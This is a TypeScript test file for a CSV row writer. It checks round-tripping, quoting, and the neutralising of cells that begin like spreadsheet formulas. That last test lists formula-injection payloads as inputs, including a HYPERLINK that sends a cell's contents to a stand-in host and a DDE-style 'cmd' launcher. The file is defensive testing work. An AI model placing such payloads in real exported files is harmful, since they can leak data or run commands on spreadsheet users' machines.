import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { writeCsvRow } from './csv-row.ts'

const read = (text: string): string[][] => parse(text, { relax_column_count: true })

test('whatever stands in a cell is read back as it was', () => {
  const rows = [
    ['', 'plain', 'a, b', 'say "yes"', '""', 'one\r\ntwo\nthree\rfour', ' spaces ', 'semi;colon', '東京 🏡', "it's"],
    ['"', ',', '\u2028', 'tab\tinside', '5 - 3', 'a=b', 'x@y.example'],
  ]
  expect(read(rows.map(writeCsvRow).join(''))).toEqual(rows)
})

test('rows end with CR LF, and only cells that need it are quoted', () => {
  expect(writeCsvRow(['a', 'b c', 'd,e', 'f"g', ''])).toBe('a,b c,"d,e","f""g",\r\n')
})

test('a cell that begins like a formula is text to a spreadsheet', () => {
  for (const formula of [
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '+1 206 555 0100',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＠SUM(1)',
  ]) {
    expect(read(writeCsvRow(['x', formula, 'y']))).toEqual([['x', `'${formula}`, 'y']])
  }
})
